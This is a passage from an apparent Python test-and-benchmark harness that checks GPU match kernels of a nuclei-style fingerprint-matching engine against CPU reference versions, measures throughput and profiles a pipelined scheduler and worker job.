    """The ``match_verdicts`` call ``DeviceDB.match`` makes on the card for
    :func:`wide_matcher_rows` over :func:`wide_matcher_docs`, whose status
    and size matchers hold 40 values."""
    from swarm_tpu_torch.fingerprints.compile import compile_corpus
    from swarm_tpu_torch.fingerprints.nuclei import parse_template
    from swarm_tpu_torch.ops import kernels
    from swarm_tpu_torch.ops.encoding import encode_batch
    from swarm_tpu_torch.ops.match import DeviceDB

    dev_db = DeviceDB(compile_corpus([parse_template(d) for d in wide_matcher_docs()]),
                      device="cuda")
    batch = encode_batch(port_rows(wide_matcher_rows()), max_body=4096, max_header=1024,
                         build_all=False, width_multiple=512)
    with kernels.record_calls() as calls:
        dev_db.match(batch.streams, batch.lengths, batch.status)
    (args,) = [a for name, a in calls if name == "match_verdicts"]
    if args[0].csr["m_status"].shape[1] <= 32:
        raise AssertionError("the wide corpus's status matcher is not wider than 32")
    return args


def regex_edge_cases() -> dict:
    """``match_regex_scan`` where the job's corpus never takes it: the
    hand-written regex corpora (:func:`regex_docs`) with 1 and 3 state
    lanes and skip runs up to 4 (``r_closure`` > 0), over
    :func:`regex_rows`. Each batch goes through ``DeviceDB.match`` on the
    card with every kernel against its plain version, exact
    (:func:`match_case`); the case fails unless its scan had live pairs
    of length 0, 1, one piece and one either side, and the full width."""
    from swarm_tpu_torch.fingerprints.compile import compile_corpus
    from swarm_tpu_torch.fingerprints.nuclei import parse_template
    from swarm_tpu_torch.ops import kernels
    from swarm_tpu_torch.ops.encoding import encode_batch
    from swarm_tpu_torch.ops.match import DeviceDB

    batch = encode_batch(port_rows(regex_rows()), max_body=4096, max_header=1024,
                         build_all=False, width_multiple=512)
    out = {}
    for lanes in (1, 3):
        dev_db = DeviceDB(compile_corpus([parse_template(d) for d in regex_docs(lanes)]),
                          device="cuda")
        case = match_case(dev_db, batch)
        with kernels.record_calls() as calls:
            dev_db.match(batch.streams, batch.lengths, batch.status)
        (args,) = [a for name, a in calls if name == "match_regex_scan"]
        shape = _call_shape("match_regex_scan", args)
        n = regex_pair_lengths(args)
        width = max(int(v.data.shape[1]) for v in args[0])
        edges = (0, 1, REGEX_PIECE - 1, REGEX_PIECE, REGEX_PIECE + 1, width)
        missing = [e for e in edges if not (n == e).any()]
        if shape["lanes"] != lanes or shape["r_closure"] < 1 or missing:
            raise AssertionError(f"regex corpus of {lanes} lanes: {shape}, no pair of {missing}")
        out[f"lanes_{lanes}"] = {**shape, "edge_lengths": list(edges),
                                 "err": case["err"]["match_regex_scan"]}
    return out


def candidate_edge_cases(templates, plants, db) -> dict:
    """``match_phase_a`` and ``match_verify`` against their plain versions
    on the card, exact, on the edits of :func:`candidate_edges` of a
    64-row batch (63 planted rows and one over the candidate budget), on
    its first row and on none, each at kclamp 16 of a budget of 64 and
    at the engine's budget."""
    import dataclasses

    import torch

    from swarm_tpu_torch.fingerprints.compile import survivor_bucket
    from swarm_tpu_torch.fingerprints.model import Response
    from swarm_tpu_torch.ops import kernels
    from swarm_tpu_torch.ops.encoding import encode_batch
    from swarm_tpu_torch.ops.match import (DeviceDB, col_starts_of, phase_a_plain,
                                           table_views, verify_plain)

    dev_db = DeviceDB(db, device="cuda")
    meta, arrays = dev_db._ensure_layout()
    words = [w.encode() for tpl in templates for _, m in tpl.all_matchers() for w in m.words]
    dense = Response(host="h", port=80, status=200, body=b"".join(words)[: 3 * MAX_BODY])
    batch = encode_batch(port_rows(realistic_rows(63, seed=13, plants=plants)) + [dense],
                         max_body=MAX_BODY, max_header=MAX_HEADER, build_all=False,
                         width_multiple=512)
    s, ln, _st = dev_db.upload(batch.streams, batch.lengths, batch.status)
    edits = candidate_edges({k: v.cpu().numpy() for k, v in s.items()},
                            {k: v.cpu().numpy() for k, v in ln.items()}, meta.table_q,
                            {k: v.cpu().numpy() for k, v in arrays["tab"].items()},
                            arrays["slot_bytes"].cpu().numpy(), arrays["slot_len"].cpu().numpy())
    bloom, plane_width = arrays["tab"]["bloom"], max(db.num_slots, 1)
    out = {}
    for edge, (streams, lengths, table_q, tab, slot_bytes, slot_len) in edits.items():
        meta_e = dataclasses.replace(meta, table_q=tuple(table_q))
        s_e = {k: torch.from_numpy(np.ascontiguousarray(v)).cuda() for k, v in streams.items()}
        l_e = {k: torch.from_numpy(np.ascontiguousarray(v)).cuda() for k, v in lengths.items()}
        corpus = kernels.VerifyCorpus({k: torch.from_numpy(v).cuda() for k, v in tab.items()},
                                      meta.max_group, torch.from_numpy(slot_bytes).cuda(),
                                      torch.from_numpy(slot_len).cuda())
        err, shape = 0.0, {}
        for rows in (None, 1, 0):
            views = [kernels.StreamView(v.data[:rows].contiguous(), v.lengths[:rows].contiguous(),
                                        v.lowered) for v in table_views(meta_e, s_e, l_e)]
            tabs = kernels.MatchTables(views, meta_e.table_q, col_starts_of(meta_e, s_e))
            for budget, k in ((64, 16), (dev_db._budget(), dev_db._budget())):
                k = max(1, min(k, int(tabs.col_starts[-1])))
                args = (tabs, tabs.qs, tabs.col_starts, bloom, budget, k)
                col, n_surv = kernels.match_phase_a(*args)
                err = max(err, *(_diff(a, b) for a, b in zip((col, n_surv), phase_a_plain(*args))))
                kc = survivor_bucket(int(n_surv.clamp(max=k).max()) if tabs.rows else 0, budget)
                vargs = (tabs, tabs.qs, tabs.col_starts, col, kc, corpus, meta.max_group,
                         corpus.slot_bytes, corpus.slot_len, plane_width)
                planes, want = kernels.match_verify(*vargs), verify_plain(*vargs)
                err = max(err, *(_diff(a, b) for a, b in zip(planes, want)))
                if rows is None and budget == 64:
                    shape = {"overflow_rows": int((n_surv > k).sum()),
                             "live_candidates": int((col[:, :kc] >= 0).sum()),
                             "value_bits": int(want[0].sum()), "unc_bits": int(want[1].sum()),
                             "widths": sorted({int(v.data.shape[1]) for v in views}),
                             "q": sorted(set(tabs.qs))}
        if err:
            raise AssertionError(f"phase A / verify differ from their plain versions ({edge})")
        out[edge] = {**shape, "err": err}
    if not (out["base"]["overflow_rows"] and out["long_slots"]["unc_bits"]
            and all(w % 32 for w in out["width_not_32"]["widths"])
            and out["last_byte_differs"]["value_bits"] < out["base"]["value_bits"]):
        raise AssertionError(f"the candidate edge cases miss an edge: {out}")
    return out


def phase_match_kernels(templates, plants, db) -> dict:
    """Each match kernel against its plain version on the card, exact, on
    the calls ``DeviceDB.match`` makes for: a 2,048-row stress batch in
    bench.py's shape (encoded without content dedup, so wider than any
    batch the worker's engine gives), the edge cases, a candidate budget
    small enough that rows overflow it, and k_pairs below the stress
    batch's fired regex pairs; a batch of the workflow corpus
    (:func:`tree_batch`); md5 on its edge lengths (:func:`md5_edge_case`)
    and the verdict kernel on variants of the stress batch's call
    (:func:`verdict_variants`). Exactness only: the kernels are timed on
    the main path's own calls (:func:`phase_match_timing`)."""
    from swarm_tpu_torch.ops import kernels
    from swarm_tpu_torch.ops.encoding import encode_batch
    from swarm_tpu_torch.ops.match import DeviceDB

    dev_db = DeviceDB(db, device="cuda")
    stress = encode_batch(port_rows(realistic_rows(JOB_ROWS, plants=plants)),
                          max_body=MAX_BODY, max_header=MAX_HEADER, build_all=False,
                          width_multiple=512)
    cases = {"stress_2048_raw": match_case(dev_db, stress)}
    with kernels.record_calls() as calls:
        dev_db.match(stress.streams, stress.lengths, stress.status)
    (verdict_args,) = [a for n, a in calls if n == "match_verdicts"]
    variants = verdict_variants(verdict_args)
    del calls, verdict_args
    md5_edges = md5_edge_case()
    regex_edges = regex_edge_cases()
    cand_edges = candidate_edge_cases(templates, plants, db)
    tree_db, tree = tree_batch()
    cases["workflow_tree"] = match_case(DeviceDB(tree_db, device="cuda"), tree)
    if not cases["workflow_tree"]["workflow_planes"]:
        raise AssertionError("the tree corpus's batch has no workflow planes")
    for name, batch in edge_batches(templates, plants).items():
        cases[name] = match_case(dev_db, batch)
    small = DeviceDB(db, candidate_k=4, device="cuda")
    small._meta, small._arrays = dev_db._ensure_layout()
    cases["small_budget"] = match_case(small, stress)
    # half the stress batch's fired (row, sequence) pairs fit: the rest
    # stay uncertain. The budget is CompiledDB.rx_k_pairs, shadowed on
    # the instance for this one case.
    fired = cases["stress_2048_raw"]["rx_pairs"]
    if not 2 <= fired < cases["stress_2048_raw"]["k_pairs"]:
        raise AssertionError(f"stress batch: {fired} fired regex pairs")
    half = fired // 2
    db.rx_k_pairs = lambda batch_rows: half
    try:
        cases["k_pairs_overflow"] = match_case(dev_db, stress)
    finally:
        del db.rx_k_pairs
    cases["k_pairs_overflow"]["pairs_over_budget"] = fired - half
    if not cases["budget_overflow"]["overflow_rows"] or not cases["small_budget"]["overflow_rows"]:
        raise AssertionError("no row overflowed the candidate budget")
    if cases["k_pairs_overflow"]["rx_pairs"] != half:
        raise AssertionError("the k_pairs case did not fill its pairs")
    for name, case in cases.items():
        # the tree corpus's batch: no fired regex pair needs the scan
        need = MATCH_KERNELS if name != "workflow_tree" else (
            "match_phase_a", "match_verify", "match_md5", "match_verdicts")
        missing = [k for k in need if not case["calls"].get(k)]
        if missing:
            raise AssertionError(f"case {name} made no call of {missing}")
    emit({"phase": "match_kernels", "exact": True, "cases": cases,
          "verdict_variants": variants, "md5_edges": md5_edges, "regex_edges": regex_edges,
          "candidate_edges": cand_edges})
    err = {k: max(c["err"][k] for c in cases.values()) for k in MATCH_KERNELS}
    err["match_md5"] = max(err["match_md5"], md5_edges["max_abs_err"])
    return err


def phase_match(templates, plants, db, smi: str) -> tuple:
    """``MatchEngine`` as the worker builds it (its default batch_rows,
    max_body, max_header and walk pool): its first batch's
    ``DeviceDB.match`` on the card against the plain versions
    (:func:`match_case`); then ``MatchEngine.match`` of 2,048 rows, warm,
    over a window of ``MATCH_WINDOW_S`` seconds of calls, the content
    memos cleared before each call (fresh content: the verdict memo would
    serve a repeated call's every row): rows/s, host seconds by stage
    (the host walk's sub-phases among them) and of the host work outside
    the stages (result assembly, the rest), in-batch unique rows, the
    miss uniques the device ran and confirms per batch; the same window
    without clearing (memo-warm rows/s); and a 64-row sample of a fresh
    call against the oracle."""
    import torch

    from swarm_tpu_torch.ops import cpu_ref
    from swarm_tpu_torch.ops.engine import MatchEngine, _dedup_rows

    eng = MatchEngine(templates, db=db, device="cuda")
    rows = port_rows(realistic_rows(JOB_ROWS, plants=plants))
    first = rows[: eng.batch_rows]
    uniq, _back, _keys = _dedup_rows(first)
    first_batch = match_case(eng.device, eng.encode([first[u] for u in uniq]))
    in_batch_unique = [len(_dedup_rows(rows[s : s + eng.batch_rows])[0])
                       for s in range(0, len(rows), eng.batch_rows)]

    # each device batch's stage seconds, read where the batch is collected
    # (a memo-served batch reaches no device)
    stage = {k: 0.0 for k in ("upload_s", "phase_a_s", "scalar_read_s", "phase_b_s", "collect_s")}
    device_batches = [0]
    collect = eng.device.collect

    def collect_and_count(out):
        planes = collect(out)
        device_batches[0] += 1
        for k in stage:
            stage[k] += eng.device.last_compact.get(k, 0.0)
        return planes

    eng.device.collect = collect_and_count

    def window(fresh: bool) -> dict:
        """Calls for MATCH_WINDOW_S seconds of calls, so that the rate
        takes in the pauses of Python's cyclic GC as a long-running
        worker pays them; each call's wall ms, and the collections in
        the window by generation (a full, generation-2 collection walks
        every object the corpus holds). Clearing the memos is outside
        the calls' time."""
        eng.clear_content_memos()
        eng.match(rows)  # warm
        torch.cuda.synchronize()
        st0 = dict(eng.stats.__dict__)
        stage0 = dict(stage)
        batches0 = device_batches[0]
        per_call = []
        gc0 = [g["collections"] for g in gc.get_stats()]
        while len(per_call) < 3 or sum(per_call) < MATCH_WINDOW_S * 1e3:
            if fresh:
                eng.clear_content_memos()
            tc = time.perf_counter()
            results = eng.match(rows)
            per_call.append((time.perf_counter() - tc) * 1e3)
        st = {k: v - st0[k] for k, v in eng.stats.__dict__.items()}
        return {
            "results": results, "per_call": per_call, "st": st,
            "stage": {k: stage[k] - stage0[k] for k in stage},
            "device_batches": device_batches[0] - batches0,
            "gc": [g["collections"] - n for g, n in zip(gc.get_stats(), gc0)],
        }

    fresh = window(True)
    warm = window(False)
    per_call, st = fresh["per_call"], fresh["st"]
    reps = len(per_call)
    seconds = sum(per_call) / 1e3
    batches = st["batches"]
    # host seconds a batch: the memo lookup and encode, the device's
    # stages (over the batches that reached it), the walk and assembly
    ms = {"encode": st["encode_seconds"] / batches * 1e3}
    ms.update({k[:-2]: v / batches * 1e3 for k, v in fresh["stage"].items()})
    ms["host_resolution"] = st["host_confirm_seconds"] / batches * 1e3
    # the host walk's sub-phases, parts of host_resolution
    walk_ms = {k: st[f"{k}_seconds"] / batches * 1e3 for k in ("unc", "ext", "insert", "fixup")}
    # MatchEngine.match's host work outside those stages, on one fresh
    # batch: the per-row assembly of the results; and, for comparison
    # with earlier runs, the content dedup alone (a part of the memo
    # lookup, inside encode, since the memo landed)
    first_rows = rows[: eng.batch_rows]
    t0 = time.perf_counter()
    _dedup_rows(first_rows)
    dedup_ms = (time.perf_counter() - t0) * 1e3
    eng.clear_content_memos()
    packed = eng.match_packed(first_rows)
    t0 = time.perf_counter()
    eng.rowmatches_from_packed(packed, len(first_rows))
    outside = {"assemble": (time.perf_counter() - t0) * 1e3}
    outside["rest"] = seconds / batches * 1e3 - sum(ms.values()) - outside["assemble"]
    outside["dedup"] = dedup_ms
    ms.update(walk_ms)

    # a sample of a fresh call against the oracle: every corpus template
    # on 64 rows
    results = fresh["results"]
    sample = list(range(0, JOB_ROWS, 64))[:48] + [i for i, r in enumerate(results)
                                                  if r.template_ids][:16]
    for i in sample:
        want_ids, want_ext = [], {}
        for tpl in templates:
            res = cpu_ref.match_template(tpl, rows[i])
            if res.matched:
                want_ids.append(tpl.id)
                if res.extractions:
                    want_ext[tpl.id] = res.extractions
        if results[i].template_ids != want_ids or results[i].extractions != want_ext:
            raise AssertionError(f"row {i} differs from the oracle")
    if [(r.template_ids, r.extractions) for r in warm["results"]] != [
            (r.template_ids, r.extractions) for r in results]:
        raise AssertionError("memo-served results differ from fresh ones")
    if not fresh["device_batches"] or warm["device_batches"]:
        raise AssertionError(f"device batches: fresh {fresh['device_batches']}, "
                             f"memo-warm {warm['device_batches']}")
    warm_calls = warm["per_call"]
    emit({
        "phase": "match", "planes_identical_to_plain": True, "first_batch": first_batch,
        "rows": JOB_ROWS, "batch_rows": eng.batch_rows, "max_body": eng.max_body,
        "max_header": eng.max_header, "walk_threads": eng.walk_threads, "fastpack": True,
        "reps": reps,
        "rows_per_s": reps * JOB_ROWS / seconds,
        # the median call's rate: leaves out a GC pause, so not the headline
        "rows_per_s_median_call": JOB_ROWS / float(np.median(per_call)) * 1e3,
        "rows_per_s_memo_warm": len(warm_calls) * JOB_ROWS / sum(warm_calls) * 1e3,
        "reps_memo_warm": len(warm_calls), "gc_collections_memo_warm": warm["gc"],
        "batches_per_call": batches / reps,
        "device_batches_per_call": fresh["device_batches"] / reps,
        "ms_per_batch": seconds / batches * 1e3, "ms_by_stage": ms,
        "ms_outside_stages": outside, "ms_per_call": per_call, "gc_collections": fresh["gc"],
        "unique_rows_per_batch": sum(in_batch_unique) / len(in_batch_unique),
        "device_rows_per_batch": st["unique_rows"] / batches,
        "memo_rows_per_batch": st["memo_slots"] / batches,
        "confirms_per_batch": st["host_confirm_pairs"] / batches,
        "walk_batched_pairs_per_batch": st["walk_batched_pairs"] / batches,
        "overflow_rows_per_batch": st["overflow_rows"] / batches,
        "last_compact": eng.device.last_compact,
        "hits": sum(len(r.template_ids) for r in results),
        "oracle_sample_rows": len(sample), "card": smi,
    })
    return eng, rows


#: the host steps of one MatchEngine batch (record_function spans)
MATCH_SPANS = (
    "match.upload", "match.phase_a", "match.scalar_read", "match.verify",
    "match.tiny_slots", "match.md5", "match.regex", "match.verdicts", "match.collect",
    "engine.resolve",
)
#: the encode: on ``match``'s helper thread when a call has more than one
#: batch, where the profiler does not see it
ENCODE_SPAN = ("engine.encode",)


def phase_match_trace(eng, rows) -> None:
    """One warm ``MatchEngine.match`` call under ``torch.profiler``, its
    content memos cleared first (fresh content): the host time and the
    card's idle time of each step, the card's busy time, and the kernels
    it ran (the five match kernels by name, the torch ops summed); up to
    three traces, as a trace now and then holds no device event."""
    import torch

    for _ in range(3):
        eng.clear_content_memos()
        torch.cuda.synchronize()
        out = profile_call(lambda: eng.match(rows), "match_batch", MATCH_SPANS, ENCODE_SPAN)
        if out["device_events"]:
            break
    kernels_ms = out.pop("kernels_ms")
    ours = {k: v for k, v in kernels_ms.items() if k.startswith(MATCH_KERNELS)}
    missing = [k for k in MATCH_KERNELS if not any(n.startswith(k) for n in ours)]
    if missing:
        raise AssertionError(f"trace: no launch of {missing}")
    rest = sorted(((v, k) for k, v in kernels_ms.items() if k not in ours), reverse=True)
    emit({
        "phase": "match_trace", "rows": len(rows), "match_kernels_ms": ours,
        "torch_ops_ms": sum(v for v, _ in rest), "top_torch_ops_ms": dict(
            (k[:80], v) for v, k in rest[:6]),
        **out,
    })


#: the scheduler phase's stream: chunks of the worker's batch_rows (1,024)
SCHED_CHUNKS = 16
#: rows of its pipelined ``fingerprint`` job
SCHED_JOB_ROWS = 4096
#: host steps of a pipelined call on the calling thread in every mode:
#: the submission, and DeviceDB.dispatch inside it
SCHED_SPANS = ("sched.submit", "match.upload", "match.phase_a", "match.scalar_read",
               "match.verify", "match.tiny_slots", "match.md5", "match.regex",
               "match.verdicts")
#: ... and those on the calling thread only when the stage runs inline
#: (the prefetch thread's plan and encode, the walk worker's collect,
#: resolve and finish)
SCHED_OPTIONAL = ("sched.plan", "sched.encode", "sched.wait", "sched.finish",
                  "engine.encode", "engine.resolve", "match.collect")


def _results_view(results) -> list:
    """Every row's template ids, extractions and workflow gate planes."""
    return [(r.template_ids, r.extractions,
             None if r.wf is None else tuple(bytes(np.asarray(p)) for p in r.wf))
            for r in results]


def traced_match(eng, rows, name: str, spans: tuple, optional: tuple) -> dict:
    """One fresh ``eng.match(rows)`` under ``torch.profiler`` with the
    match kernels' launch counts from zero (:func:`profile_call`; up to
    three traces, as a trace now and then holds no device event)."""
    import torch

    from swarm_tpu_torch.ops import kernels

    for _ in range(3):
        eng.clear_content_memos()
        torch.cuda.synchronize()
        kernels.reset_launches()
        out = profile_call(lambda: eng.match(rows), name, spans, optional)
        launches = {k: kernels.LAUNCHES[k] for k in MATCH_KERNELS}
        if out["device_events"]:
            break
    kernels_ms = out.pop("kernels_ms")
    missing = [k for k in MATCH_KERNELS if not launches[k]
               or not any(n.startswith(k) for n in kernels_ms)]
    if missing:
        raise AssertionError(f"{name}: no launch of {missing}")
    return {**out, "launches": launches,
            "match_kernels_ms": {k: v for k, v in kernels_ms.items()
                                 if k.startswith(MATCH_KERNELS)}}


def phase_sched(templates, plants, db, smi: str) -> dict:
    """The continuous-batching scheduler (``pipeline="on"``) on the card,
    over a stream of ``SCHED_CHUNKS`` chunks of 1,024 ``realistic_rows``
    and the match corpus, the engines as the worker builds them:

    - exactness: ``MatchEngine(pipeline="on").match`` of the stream equal
      to ``pipeline="off"``'s (every row's template ids, extractions and
      gate planes), for ``inflight`` 1, 2, 4 × ``walk_offload`` on, off ×
      ``prefetch`` thread, inline, the memos cleared before each; then
      memo-warm (default settings); in-flight depth ≥ 2 reached wherever
      ``inflight`` > 1, offloaded walks wherever the offload is on;
    - rows/s of the stream, pipeline off against on in turns (off, on,
      on, off), each a ``MATCH_WINDOW_S`` window of calls with every memo
      cleared before each call, the median call beside it; the on arm's
      ``SchedStats`` (default settings, as a worker runs them), which
      must show an in-flight depth ≥ 2 and offloaded walks; each arm's
      host seconds a call by stage;
    - one traced call of each arm: card busy and idle share, the launches
      of the five match kernels (from zero), the ``sched.*`` /
      ``engine.*`` / ``match.*`` steps on the calling thread, the host
      syncs by step;
    - a ``fingerprint`` job of ``SCHED_JOB_ROWS`` JSONL rows through the
      port's worker on ``cuda`` with ``pipeline: on``: byte-identical to
      the same job with ``pipeline: off`` on the card and to the
      pipelined job with ``device="cpu"``, its perf fields carrying
      ``pipeline: on`` and the ``sched`` snapshot, all five match
      kernels launched (counted from zero over the job).

    → the five kernels' launches on the pipelined traced call, and the
    ``match_md5`` calls of one more fresh pipelined call of the stream
    (:func:`stream_md5_calls`)."""
    import yaml

    from swarm_tpu_torch.ops import kernels
    from swarm_tpu_torch.ops.engine import MatchEngine
    from swarm_tpu_torch.sched import SchedStats, SchedulerConfig
    from swarm_tpu_torch.worker.runtime import JobProcessor, WorkerConfig

    off = MatchEngine(templates, db=db, device="cuda", pipeline="off")
    on = MatchEngine(templates, db=db, device="cuda", pipeline="on")
    rows = stream_rows(off, plants)
    off.clear_content_memos()
    want = _results_view(off.match(rows))
    sched = on.scheduler()
    exact = []
    for inflight in (1, 2, 4):
        for walk_offload in ("on", "off"):
            for prefetch in ("thread", "inline"):
                sched.config = SchedulerConfig(inflight=inflight, walk_offload=walk_offload,
                                               prefetch=prefetch)
                sched.stats = SchedStats()
                on.clear_content_memos()
                t0 = time.perf_counter()
                got = on.match(rows)
                seconds = time.perf_counter() - t0
                case = {"inflight": inflight, "walk_offload": walk_offload,
                        "prefetch": prefetch, "seconds": seconds, **sched.stats.snapshot()}
                if _results_view(got) != want:
                    raise AssertionError(f"pipelined results differ from the direct path: {case}")
                if (inflight > 1 and case["max_inflight"] < 2) or (
                        (case["offloaded_walks"] > 0) != (walk_offload == "on")):
                    raise AssertionError(f"the in-flight window did not engage: {case}")
                exact.append(case)
    sched.config = SchedulerConfig()  # the defaults, as a worker runs them
    if _results_view(on.match(rows)) != want:  # memo-warm
        raise AssertionError("memo-warm pipelined results differ from the direct path")

    # rows/s, the arms in turns
    sched.stats = SchedStats()
    per_call = {"off": [], "on": []}
    st: dict = {"off": {}, "on": {}}
    for arm in ("off", "on", "on", "off"):
        eng = on if arm == "on" else off
        st0 = dict(eng.stats.__dict__)
        window = []
        while len(window) < 3 or sum(window) < MATCH_WINDOW_S * 1e3:
            eng.clear_content_memos()
            t0 = time.perf_counter()
            eng.match(rows)
            window.append((time.perf_counter() - t0) * 1e3)
        per_call[arm] += window
        for k, v in eng.stats.__dict__.items():
            st[arm][k] = st[arm].get(k, 0) + v - st0[k]
    snap = sched.stats.snapshot()
    if snap["max_inflight"] < 2 or not snap["offloaded_walks"]:
        raise AssertionError(f"the in-flight window did not engage on the card: {snap}")
    arms = {}
    for arm, calls in per_call.items():
        n_calls = len(calls)
        arms[arm] = {
            "calls": n_calls, "rows_per_s": n_calls * len(rows) / sum(calls) * 1e3,
            "rows_per_s_median_call": len(rows) / float(np.median(calls)) * 1e3,
            "ms_per_call": calls,
            # host seconds a call by stage (encode and the walk overlap
            # the device on the pipelined arm: they need not sum to a call)
            "ms_by_stage_per_call": {k: st[arm][f"{k}_seconds"] / n_calls * 1e3 for k in (
                "encode", "device", "phase_a", "phase_b", "host_confirm")},
            "device_rows_per_call": st[arm]["unique_rows"] / n_calls,
            "batches_per_call": st[arm]["batches"] / n_calls,
        }

    traces = {"off": traced_match(off, rows, "sched_off_call", MATCH_SPANS, ENCODE_SPAN),
              "on": traced_match(on, rows, "sched_on_call", SCHED_SPANS, SCHED_OPTIONAL)}
    md5_calls = stream_md5_calls(on, rows)

    # the pipelined fingerprint job: the card's with the pipeline off
    # and the CPU's pipelined job as its twins
    dicts = realistic_rows(SCHED_JOB_ROWS, seed=23, plants=plants)
    blob = jsonl_rows(dicts)
    use_db_cache("sched")
    corpus = DB_CACHE_ROOT / "sched_corpus"
    corpus.mkdir()
    docs, _ = synthetic_corpus(0)
    for doc in docs:
        (corpus / f"{doc['id']}.yaml").write_text(yaml.safe_dump(doc))
    saved = os.environ.get("SWARM_TEMPLATES_DIR")
    os.environ["SWARM_TEMPLATES_DIR"] = str(corpus)
    outputs, perf, seconds = {}, {}, {}
    try:
        for mode, device in (("on", "cuda"), ("off", "cuda"), ("on", "cpu")):
            key = f"{mode}_{device}"
            stub = StubServer(blob, module="fingerprint")
            try:
                cfg = WorkerConfig(server_url=stub.url, api_key=API_KEY, worker_id="chip-smoke",
                                   modules_dir=str(REPO / "modules"), max_jobs=1,
                                   poll_interval_idle_s=0.05, poll_interval_busy_s=0.0,
                                   pipeline=mode)
                proc = JobProcessor(cfg, device=device)
                kernels.reset_launches()
                t0 = time.perf_counter()
                proc.process_jobs()
                seconds[key] = time.perf_counter() - t0
                if key == "on_cuda":
                    job_launches = {k: kernels.LAUNCHES[k] for k in MATCH_KERNELS}
            finally:
                stub.close()
            if stub.statuses != ["starting", "downloading", "executing", "uploading", "complete"]:
                raise AssertionError(f"pipelined fingerprint job ({key}) statuses {stub.statuses}")
            outputs[key], perf[key] = stub.output, stub.perf
    finally:
        if saved is None:
            os.environ.pop("SWARM_TEMPLATES_DIR", None)
        else:
            os.environ["SWARM_TEMPLATES_DIR"] = saved
    if outputs["on_cuda"] != outputs["off_cuda"]:
        raise AssertionError("pipelined job output differs from the pipeline-off job on the card")
    if outputs["on_cuda"] != outputs["on_cpu"]:
        raise AssertionError("pipelined job output differs from its CPU twin")
    if len(outputs["on_cuda"].splitlines()) != len(dicts):
        raise AssertionError("pipelined job: not one line a row")
    job_perf = perf["on_cuda"]
    if job_perf.get("pipeline") != "on" or "sched" not in job_perf or perf["off_cuda"].get(
            "pipeline") != "off":
        raise AssertionError(f"pipelined job perf fields {job_perf}")
    missing = [k for k in MATCH_KERNELS if job_launches[k] < 1]
    if missing:
        raise AssertionError(f"pipelined fingerprint job: no launch of {missing}")

    emit({
        "phase": "sched", "rows": len(rows), "chunks": SCHED_CHUNKS,
        "batch_rows": off.batch_rows, "max_body": off.max_body, "max_header": off.max_header,
        "walk_threads": off.walk_threads, "cpu_count": os.cpu_count(),
        "identical_to_direct": [
            {k: c[k] for k in ("inflight", "walk_offload", "prefetch", "seconds", "batches",
                               "max_inflight", "offloaded_walks", "fill_ratio")} for c in exact],
        "memo_warm_identical": True, "arms": arms, "sched_stats": snap,
        "traces": traces,
        "job": {"rows": len(dicts), "seconds": seconds, "launches": job_launches,
                "identical_to_pipeline_off": True, "identical_to_cpu_twin": True,
                "perf": {k: job_perf[k] for k in ("pipeline", "sched", "inflight_saturation")
                         if k in job_perf}},
        "card": smi,
    })
    return traces["on"]["launches"], md5_calls


def stream_rows(eng, plants) -> list:
    """The sched phase's stream: ``SCHED_CHUNKS`` batches of the engine's
    rows of ``realistic_rows`` (seed 17)."""
    return port_rows(realistic_rows(SCHED_CHUNKS * eng.batch_rows, seed=17, plants=plants))


def stream_md5_calls(eng, rows) -> list:
    """The ``match_md5`` calls of one fresh pipelined ``eng.match(rows)``
    of the stream (the traced call's work), recorded as made."""
    import torch

    from swarm_tpu_torch.ops import kernels

    eng.clear_content_memos()
    with kernels.record_calls() as calls:
        eng.match(rows)
    torch.cuda.synchronize()
    md5 = [(name, args) for name, args in calls if name == "match_md5"]
    if not md5:
        raise AssertionError("the stream made no match_md5 call")
    return md5


_YAML_CORPUS: list = []


def yaml_corpus() -> Path | None:
    """``synthetic_corpus(0)`` as YAML template files in one directory
    of the run, written once (None without PyYAML): the workers of the
    ``fingerprint_worker`` and ``startup_worker`` phases read it, so the
    second finds the first's compile in the run's compile cache."""
    import tempfile

    if not _YAML_CORPUS:
        try:
            import yaml
        except ImportError:
            return None
        root = Path(tempfile.mkdtemp(prefix="corpus-", dir=DB_CACHE_ROOT))
        for doc in synthetic_corpus(0)[0]:
            (root / f"{doc['id']}.yaml").write_text(yaml.safe_dump(doc))
        _YAML_CORPUS.append(root)
    return _YAML_CORPUS[0]


def phase_fingerprint_worker(templates, plants, db) -> dict:
    """The main path: the stand-in server hands out one ``fingerprint``
    job of 2,048 JSONL rows, the port's worker runs it on ``cuda``. The
    corpus goes to the worker as YAML files in its templates directory
    when PyYAML is installed; without it, the engine compiled here from
    the same dicts is placed in the worker's per-directory engine cache.
    The job must end ``complete``, one line per row, the first 256 lines
    byte-identical to the same module on the CPU, a sample equal to the
    oracle's, and all five match kernels launched. → (launches, the
    job's recorded kernel calls)."""
    import os
    import tempfile

    from swarm_tpu_torch.ops import cpu_ref, kernels
    from swarm_tpu_torch.ops.engine import MatchEngine, RowMatches
    from swarm_tpu_torch.worker.modules import format_match_line
    from swarm_tpu_torch.worker.runtime import JobProcessor, WorkerConfig

    dicts = realistic_rows(JOB_ROWS, seed=11, plants=plants)
    blob = jsonl_rows(dicts)
    shared = yaml_corpus()
    with tempfile.TemporaryDirectory() as scratch:
        corpus_dir = str(shared) if shared is not None else scratch
        route = "yaml" if shared is not None else "engine_cache"
        saved = os.environ.get("SWARM_TEMPLATES_DIR")
        os.environ["SWARM_TEMPLATES_DIR"] = corpus_dir
        stub = StubServer(blob, module="fingerprint")
        try:
            cfg = WorkerConfig(
                server_url=stub.url, api_key=API_KEY, worker_id="chip-smoke",
                modules_dir=str(REPO / "modules"), max_jobs=1,
                poll_interval_idle_s=0.05, poll_interval_busy_s=0.0,
            )
            proc = JobProcessor(cfg, device="cuda")
            if route == "engine_cache":
                proc.engines[corpus_dir] = MatchEngine(templates, db=db, device="cuda")
            kernels.reset_launches()
            t0 = time.perf_counter()
            with kernels.record_calls() as calls:
                proc.process_jobs()
            seconds = time.perf_counter() - t0
            launches = dict(kernels.LAUNCHES)
            # the same module on the CPU (plain versions), first 256 rows
            cpu = JobProcessor(cfg, device="cpu")
            cpu.engines[corpus_dir] = MatchEngine(templates, db=db, device="cpu")
            # nothing known: every row of the twin's job is walked
            cpu.engines[corpus_dir].clear_content_memos()
            head = b"".join(blob.splitlines(keepends=True)[:256])
            twin = cpu._execute_tpu(cpu.registry.load("fingerprint"), head)
        finally:
            stub.close()
            if saved is None:
                os.environ.pop("SWARM_TEMPLATES_DIR", None)
            else:
                os.environ["SWARM_TEMPLATES_DIR"] = saved

    want = ["starting", "downloading", "executing", "uploading", "complete"]
    if stub.statuses != want:
        raise AssertionError(f"fingerprint job statuses {stub.statuses}")
